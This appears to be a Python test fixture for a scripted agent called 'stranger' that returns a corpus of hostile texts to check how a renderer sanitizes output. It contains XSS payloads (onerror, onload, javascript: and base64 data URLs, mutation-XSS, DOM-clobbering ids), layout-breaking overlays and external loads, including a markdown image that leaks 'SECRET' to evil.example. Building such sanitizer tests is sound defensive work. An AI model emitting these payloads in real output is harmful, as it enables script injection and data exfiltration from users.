"""Texts that attempt script injection, foreign requests and layout damage."""

from typing import Any

EVIL = "https://evil.example"

TEXTS = [
    f"![pixel]({EVIL}/?q=SECRET) and ![](//evil.example/pixel.png)",
    f'<img src="{EVIL}/a.png" srcset="{EVIL}/b.png 1x" onerror="alert(1)">',
    "<img src=x onerror=alert(2)>",
    "<script>alert(3)</script><svg onload=alert(4)><script>alert(5)</script></svg>",
    f'<svg><image href="{EVIL}/x.png"/><use href="{EVIL}/y.svg#z"/></svg>',
    f'<form action="{EVIL}"><input autofocus onfocus=alert(6)><button>Go</button></form>',
    f'<div style="background:url({EVIL}/s);position:fixed;inset:0;z-index:99">cover</div>',
    f"<style>@import '{EVIL}/c.css'; body {{ display: none }}</style>",
    f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video>',
    f'<audio src="{EVIL}/a.mp3" autoplay>',
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}/e">',
    f'<link rel="stylesheet" href="{EVIL}/l.css"><link rel="prefetch" href="{EVIL}/pre">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}/">',
    "[one](javascript:alert(7)) [two](JaVaScRiPt&colon;alert(8))",
    "<a href='java\tscript:alert(9)'>three</a>",
    "[four](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
    f'<a href="{EVIL}" ping="{EVIL}/ping" onclick="alert(11)">five</a>',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(12)&gt;">',
    '<p id="app">six</p><a name="location" id="cookie">seven</a><div class="backdrop">eight</div>',
    "<details open ontoggle=alert(13)><summary>nine</summary>ten</details>",
    "```html\n<img src=x onerror=alert(14)>\n```",
    "| a | <img src=x onerror=alert(15)> |\n|---|---|\n| `<b>` | [x](javascript:alert(16)) |",
    "x" * 3_000,
    "| " + " | ".join(f"column {n}" for n in range(40)) + " |\n|" + "---|" * 40,
]

ANSWERS: list[dict[str, Any]] = [
    {"when": "^the corpus$", "reply": {"text": "\n\n".join(TEXTS) + "\n\nThe end of it."}},
    {
        "when": "break down",
        "reply": {"error": {"message": "It broke.", "is_retryable": False}},
    },
    {"reply": {"text": "Hm."}},
]
"""Scripted answers of the agent "stranger"."""
